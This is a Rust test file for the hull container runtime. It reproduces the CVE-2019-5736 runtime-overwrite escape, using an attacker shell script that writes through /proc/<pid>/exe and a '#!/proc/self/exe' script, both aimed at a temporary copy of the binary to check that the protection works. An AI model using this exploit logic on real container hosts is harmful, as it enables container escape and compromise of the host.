//! CVE-2019-5736 for real: a container that holds CAP_SYS_PTRACE without a
//! user namespace opens /proc/<pid>/exe of a hull process in its pid
//! namespace and, once hull has exited, reopens the handle for writing. The
//! runtime attacked is a copy of hull in a temp dir, so a failure of the
//! protection cannot damage the build.

use crate::common::*;
use serde_json::json;
use std::fs;
use std::time::Duration;

/// The attacker, PID 1 of its own pid namespace: once /out/scan exists it
/// watches the process directories /out/scan lists (every one in /proc
/// when it is empty) for a process running the copy (or a memfd named hull),
/// keeps its exe open as fd 3, reports the link in /out/opened, and after
/// /out/go tries `>> /proc/self/fd/3` (retrying while the file is busy).
const ATTACKER: &str = r#"
while [ ! -e /out/scan ]; do usleep 10000; done
while :; do
  dirs=$(cat /out/scan); [ -n "$dirs" ] || dirs=$(echo /proc/[0-9]*)
  for d in $dirs; do
    case "$(readlink $d/exe 2>/dev/null)" in
      *hull-victim*|/memfd:hull*)
        if (exec 3<$d/exe) 2>/dev/null; then exec 3<$d/exe; break 2; fi;;
    esac
  done
  usleep 20000
done
readlink /proc/self/fd/3 > /out/opened.tmp; mv /out/opened.tmp /out/opened
while [ ! -e /out/go ]; do usleep 10000; done
i=0
while :; do
  if (echo PWNED >> /proc/self/fd/3) 2>/out/err; then echo wrote > /out/result.tmp; break; fi
  if grep -q busy /out/err && [ $i -lt 100 ]; then i=$((i+1)); usleep 50000; continue; fi
  echo "failed: $(cat /out/err)" > /out/result.tmp; break
done
mv /out/result.tmp /out/result
exec sleep 600
"#;

/// CAP_SYS_PTRACE in every set: a "privileged" container without a user namespace.
fn grant_ptrace(b: &mut Bundle) {
    for set in ["bounding", "effective", "permitted", "ambient"] {
        b.config["process"]["capabilities"][set]
            .as_array_mut()
            .unwrap()
            .push(json!("CAP_SYS_PTRACE"));
    }
}

fn sha256(p: &std::path::Path) -> String {
    host("sha256sum", &[p.to_str().unwrap()])
}

/// A copy of the runtime binary in its own temp dir, named hull-victim.
fn victim_copy() -> (TempDir, std::path::PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let dir = TempDir::new("victim");
    let copy = dir.path().join("hull-victim");
    fs::copy(runtime_bin(), &copy).unwrap();
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    (dir, copy)
}

#[derive(Clone, Copy, PartialEq)]
enum Stage {
    /// The victim container's init, between create and start.
    CreateStart,
    /// The exec stage of `hull exec`, held before its execve by a frozen cgroup.
    Exec,
}

struct Attack {
    /// Where the attacker's handle points (readlink of its fd 3).
    opened: String,
    /// "wrote" or "failed: <error>".
    result: String,
    binary_changed: bool,
}

/// Runs the attack against a copy of hull run with HULL_EXE_PROTECTION=`protection`.
/// None (after printing why) when the host cannot hold the exec stage.
fn exe_attack(protection: &str, stage: Stage) -> Option<Attack> {
    let (copy_dir, copy) = victim_copy();
    let before = sha256(&copy);
    let rt = Runtime::new();
    let mut a = Bundle::new(&["sh", "-c", ATTACKER]);
    grant_ptrace(&mut a);
    let out = a.out_dir();
    let ida = unique_id("attacker");
    rt.create_start(&a, &ida);
    let apid = rt.pid(&ida);
    // The victim joins the attacker's pid namespace: every process of the
    // victim's hull in that namespace is in the attacker's view.
    let mut rtc = Runtime::new();
    rtc.bin = copy.clone();
    rtc.env = vec![("HULL_EXE_PROTECTION".into(), protection.into())];
    let mut v = Bundle::new(&["true"]);
    v.set_namespace("pid", Some(&format!("/proc/{apid}/ns/pid")));
    let idv = unique_id("victim");
    let wait = Duration::from_secs(20);
    match stage {
        Stage::CreateStart => {
            fs::write(out.join("scan"), "").unwrap();
            rtc.create(&v, &idv).ok();
            let opened = wait_file(&out.join("opened"), wait);
            let vpid = rtc.pid(&idv);
            rtc.start(&idv).ok();
            assert!(opened.is_some(), "the attacker never saw the victim's init");
            assert!(wait_pid_gone(vpid, wait), "victim init {vpid} still runs");
        }
        Stage::Exec => {
            v.set_args(&["sleep", "600"]);
            rtc.create_start(&v, &idv);
            let freeze = cgroup_dir("unified", &format!("/hull/{idv}")).join("cgroup.freeze");
            if !freeze.exists() {
                eprintln!(
                    "SKIPPED: {} is missing: no cgroup2 freezer to hold the exec stage",
                    freeze.display()
                );
                rtc.bin = runtime_bin();
                return None;
            }
            fs::write(&freeze, "1").unwrap();
            fs::write(out.join("scan"), "").unwrap();
            let cmd = rtc.command(&["exec", &idv, "true"]);
            let scratch = copy_dir.path().to_path_buf();
            let exec = std::thread::spawn(move || run_cmd(cmd, &scratch, CmdOpts::default()));
            let opened = wait_file(&out.join("opened"), wait);
            fs::write(&freeze, "0").unwrap();
            let o = exec.join().unwrap();
            assert!(
                opened.is_some(),
                "the attacker never saw the exec stage: {o}"
            );
            o.ok();
        }
    }
    fs::write(out.join("go"), "").unwrap();
    let result = wait_file(&out.join("result"), wait).expect("attacker reported no result");
    // Clean up with the build's binary, not the (possibly changed) copy.
    rtc.bin = runtime_bin();
    let after = sha256(&copy);
    eprintln!(
        "attack ({protection}): handle {:?}, write: {:?}, binary changed: {}",
        fs::read_to_string(out.join("opened"))
            .unwrap_or_default()
            .trim(),
        result.trim(),
        before != after
    );
    Some(Attack {
        opened: fs::read_to_string(out.join("opened")).unwrap(),
        result: result.trim().to_string(),
        binary_changed: before != after,
    })
}

fn assert_protected(a: &Attack) {
    assert!(
        a.opened.starts_with("/memfd:hull"),
        "the attacker's handle is not the sealed copy: {}",
        a.opened
    );
    assert!(a.result.starts_with("failed"), "write: {}", a.result);
    assert!(!a.binary_changed, "the host binary was changed");
}

fn assert_overwritten(a: &Attack) {
    assert!(a.opened.contains("hull-victim"), "handle: {}", a.opened);
    assert_eq!(a.result, "wrote", "the unprotected attack did not write");
    assert!(a.binary_changed, "the write did not reach the binary");
}

#[test]
fn exe_overwrite_during_create_start_is_blocked() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    assert_protected(&exe_attack("auto", Stage::CreateStart).unwrap());
}

/// The same attack with the protection off reaches the binary (the copy):
/// the attack is real, so the test above can fail.
#[test]
fn exe_overwrite_during_create_start_succeeds_without_protection() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    assert_overwritten(&exe_attack("off", Stage::CreateStart).unwrap());
}

#[test]
fn exe_overwrite_during_exec_is_blocked() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    if let Some(a) = exe_attack("auto", Stage::Exec) {
        assert_protected(&a);
    }
}

#[test]
fn exe_overwrite_during_exec_succeeds_without_protection() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    if let Some(a) = exe_attack("off", Stage::Exec) {
        assert_overwritten(&a);
    }
}

/// readlink of /proc/<pid>/exe ("" when it cannot be read).
fn exe_link(pid: i32) -> String {
    fs::read_link(format!("/proc/{pid}/exe"))
        .map(|p| p.to_string_lossy().to_string())
        .unwrap_or_default()
}

/// The default container (own pid namespace, no CAP_SYS_PTRACE) costs
/// nothing: neither the waiting init nor `exec` (nor the `hull exec` process
/// on the host) runs from a memfd. With CAP_SYS_PTRACE, or with
/// HULL_EXE_PROTECTION=always, all of them do (seen from outside).
#[test]
fn exe_protection_only_where_a_container_could_reach_hull() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    let (copy_dir, copy) = victim_copy();
    for (mode, ptrace, sealed) in [
        ("auto", false, false),
        ("always", false, true),
        ("auto", true, true),
    ] {
        let mut rt = Runtime::new();
        rt.bin = copy.clone();
        rt.env = vec![("HULL_EXE_PROTECTION".into(), mode.into())];
        let mut b = Bundle::new(&["sleep", "600"]);
        if ptrace {
            grant_ptrace(&mut b);
        }
        let mode = format!("{mode}, CAP_SYS_PTRACE: {ptrace}");
        let out = b.out_dir();
        let id = unique_id("noseal");
        rt.create(&b, &id).ok();
        let init = exe_link(rt.pid(&id));
        rt.start(&id).ok();
        let mut child = rt
            .command(&["exec", &id, "sh", "-c", "echo x > /out/started; sleep 600"])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let started = wait_file(&out.join("started"), Duration::from_secs(20)).is_some();
        let exec = exe_link(child.id() as i32);
        let _ = child.kill();
        let _ = child.wait();
        assert!(started, "{mode}: the exec'd process did not start");
        for (what, link) in [("waiting init", &init), ("hull exec", &exec)] {
            if sealed {
                assert!(
                    link.starts_with("/memfd:hull"),
                    "{mode}: {what} runs {link}"
                );
            } else {
                assert_eq!(link, &copy.to_string_lossy(), "{mode}: {what}");
            }
        }
        rt.bin = runtime_bin();
    }
    drop(copy_dir);
}

/// `exec --process` from a pipe into a container that makes hull re-execute:
/// the decision comes before the pipe is read, so the sealed copy reads it.
#[test]
fn exe_protection_keeps_a_piped_process_json() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    use std::io::Write;
    let rt = Runtime::new();
    let mut b = Bundle::new(&["sleep", "600"]);
    grant_ptrace(&mut b);
    let id = unique_id("pipedp");
    rt.create_start(&b, &id);
    let mut p = b.config["process"].clone();
    p["args"] = json!(["echo", "piped"]);
    let mut child = rt
        .command(&["exec", "--process", "/dev/stdin", &id])
        .env("HULL_EXE_PROTECTION", "auto")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(p.to_string().as_bytes())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.success() && stdout.contains("piped"),
        "exec -p /dev/stdin: {stdout} {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

// ---------------------------------------------------------------------------
// CVE-2019-5736, the original attack: a `#!/proc/self/exe` script. A hull
// process that execs it starts hull's own binary again inside the
// container, dumpable, and an ordinary container process (no
// CAP_SYS_PTRACE, no user namespace) opens its /proc/PID/exe. The hull so
// started refuses its arguments and writes its usage error to stderr: a
// pipe that is full and never read holds it there, so the attacker cannot
// miss it; closing the pipe lets it die, and the attacker then writes.
// ---------------------------------------------------------------------------

/// `#!/proc/self/exe` at /evil in the bundle's rootfs, which also gets the
/// dynamic loader and libraries the runtime binary needs (as a glibc-based
/// image has them): the kernel finds an ELF interpreter in the container's
/// root, so without them a dynamically linked hull could not start there.
fn plant_evil_script(b: &Bundle) {
    use std::os::unix::fs::PermissionsExt;
    // A static binary: ldd fails and there is nothing to copy.
    let ldd = std::process::Command::new("ldd")
        .arg(runtime_bin())
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).to_string())
        .unwrap_or_default();
    for lib in ldd.split_whitespace().filter(|w| w.starts_with('/')) {
        let dest = b.rootfs().join(lib.trim_start_matches('/'));
        fs::create_dir_all(dest.parent().unwrap()).unwrap();
        fs::copy(lib, &dest).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
    }
    let p = b.rootfs().join("evil");
    fs::write(&p, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
}

/// A pipe whose buffer is full: (read end, write end, bytes in it). A
/// process writing to the write end blocks until the read end is closed.
fn full_pipe() -> (std::os::fd::OwnedFd, std::os::fd::OwnedFd, usize) {
    use std::os::fd::AsRawFd;
    let (r, w) = nix::unistd::pipe().unwrap();
    // SAFETY: fcntl on descriptors the test owns.
    unsafe {
        libc::fcntl(w.as_raw_fd(), libc::F_SETPIPE_SZ, 4096);
        libc::fcntl(w.as_raw_fd(), libc::F_SETFL, libc::O_NONBLOCK);
    }
    let mut n = 0;
    while let Ok(k) = nix::unistd::write(&w, &[b'.'; 512]) {
        n += k;
    }
    // SAFETY: as above: blocking again for whoever inherits it.
    unsafe { libc::fcntl(w.as_raw_fd(), libc::F_SETFL, 0) };
    (r, w, n)
}

/// Runs the runtime with stdout and stderr on `w`; returns its exit status.
fn run_into_pipe(
    rt: &Runtime,
    args: &[&str],
    w: &std::os::fd::OwnedFd,
) -> std::process::ExitStatus {
    let mut c = rt.command(args);
    c.stdin(std::process::Stdio::null())
        .stdout(w.try_clone().unwrap())
        .stderr(w.try_clone().unwrap());
    let mut child = c.spawn().unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(s) = child.try_wait().unwrap() {
            return s;
        }
        assert!(std::time::Instant::now() < deadline, "{args:?} hung");
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[derive(Clone, Copy, PartialEq)]
enum Script {
    /// `hull exec -d CTR /evil` into the attacker's own container.
    Exec,
    /// A container without a pid namespace whose entrypoint is /evil; the
    /// attacker is another container without one.
    Entrypoint,
}

struct ScriptAttack {
    /// What the attacker opened ("" when it saw nothing to open).
    opened: String,
    /// The attacker's write ("" when it had nothing open).
    result: String,
    /// Bytes hull's image wrote into the full pipe (0: it never ran).
    hull_wrote: usize,
    binary_changed: bool,
}

fn script_attack(protection: &str, how: Script) -> ScriptAttack {
    use std::io::Read;
    let (copy_dir, copy) = victim_copy();
    let before = sha256(&copy);
    let mut rtc = Runtime::new();
    rtc.bin = copy.clone();
    rtc.env = vec![("HULL_EXE_PROTECTION".into(), protection.into())];
    let mut a = Bundle::new(&["sh", "-c", ATTACKER]);
    let out = a.out_dir();
    let ida = unique_id("script-attacker");
    let (r, w, filled) = full_pipe();
    match how {
        Script::Exec => {
            plant_evil_script(&a);
            rtc.create_start(&a, &ida);
            fs::write(out.join("scan"), "").unwrap();
            let st = run_into_pipe(&rtc, &["exec", "-d", &ida, "/evil"], &w);
            assert!(st.success(), "exec -d /evil: {st}");
        }
        Script::Entrypoint => {
            a.remove_namespace("pid");
            rtc.create_start(&a, &ida);
            let mut v = Bundle::new(&["/evil"]);
            v.remove_namespace("pid");
            plant_evil_script(&v);
            let idv = unique_id("script-victim");
            v.save();
            rtc.track(&idv);
            let bp = v.path().to_string_lossy().to_string();
            let st = run_into_pipe(&rtc, &["create", "--bundle", &bp, &idv], &w);
            assert!(st.success(), "create: {st}");
            // The init keeps its pid through both execs: watch only it.
            fs::write(out.join("scan"), format!("/proc/{}", rtc.pid(&idv))).unwrap();
            rtc.start(&idv).ok();
        }
    }
    drop(w);
    let opened = wait_file(&out.join("opened"), Duration::from_secs(5)).unwrap_or_default();
    // Drain the filler: a blocked writer (hull's image) goes on and writes.
    let mut rf = fs::File::from(r);
    let mut filler = vec![0u8; filled];
    rf.read_exact(&mut filler).unwrap();
    std::thread::sleep(Duration::from_millis(300));
    // SAFETY: fcntl on a descriptor the test owns.
    unsafe {
        libc::fcntl(
            std::os::fd::AsRawFd::as_raw_fd(&rf),
            libc::F_SETFL,
            libc::O_NONBLOCK,
        )
    };
    let mut rest = Vec::new();
    let _ = rf.read_to_end(&mut rest);
    drop(rf);
    let result = if opened.is_empty() {
        String::new()
    } else {
        fs::write(out.join("go"), "").unwrap();
        wait_file(&out.join("result"), Duration::from_secs(20))
            .expect("attacker reported no result")
            .trim()
            .to_string()
    };
    rtc.bin = runtime_bin();
    let after = sha256(&copy);
    let hull_wrote = rest.len();
    eprintln!(
        "script attack ({protection}): handle {:?}, write {result:?}, hull's image wrote {hull_wrote} bytes, binary changed: {}",
        opened.trim(),
        before != after
    );
    drop(copy_dir);
    ScriptAttack {
        opened: opened.trim().to_string(),
        result,
        hull_wrote,
        binary_changed: before != after,
    }
}

fn assert_script_blocked(a: &ScriptAttack) {
    assert!(!a.binary_changed, "the host binary was changed");
    assert!(
        !a.opened.contains("hull-victim"),
        "the attacker held the binary: {}",
        a.opened
    );
    assert!(
        a.opened.is_empty() || a.result.starts_with("failed"),
        "write: {}",
        a.result
    );
    assert_eq!(a.hull_wrote, 0, "hull's image ran in the container");
}

fn assert_script_overwrote(a: &ScriptAttack) {
    assert!(a.hull_wrote > 0, "hull's image never ran in the container");
    assert!(a.opened.contains("hull-victim"), "handle: {}", a.opened);
    assert_eq!(a.result, "wrote", "the unprotected attack did not write");
    assert!(a.binary_changed, "the write did not reach the binary");
}

#[test]
fn exe_script_through_exec_is_blocked() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    assert_script_blocked(&script_attack("auto", Script::Exec));
}

/// With protection off the same script reaches the binary: the test above can fail.
#[test]
fn exe_script_through_exec_succeeds_without_protection() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    assert_script_overwrote(&script_attack("off", Script::Exec));
}

#[test]
fn exe_script_as_entrypoint_without_pid_namespace_is_blocked() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    assert_script_blocked(&script_attack("auto", Script::Entrypoint));
}

#[test]
fn exe_script_as_entrypoint_succeeds_without_protection() {
    if !hull_only("HULL_EXE_PROTECTION") {
        return;
    }
    assert_script_overwrote(&script_attack("off", Script::Entrypoint));
}
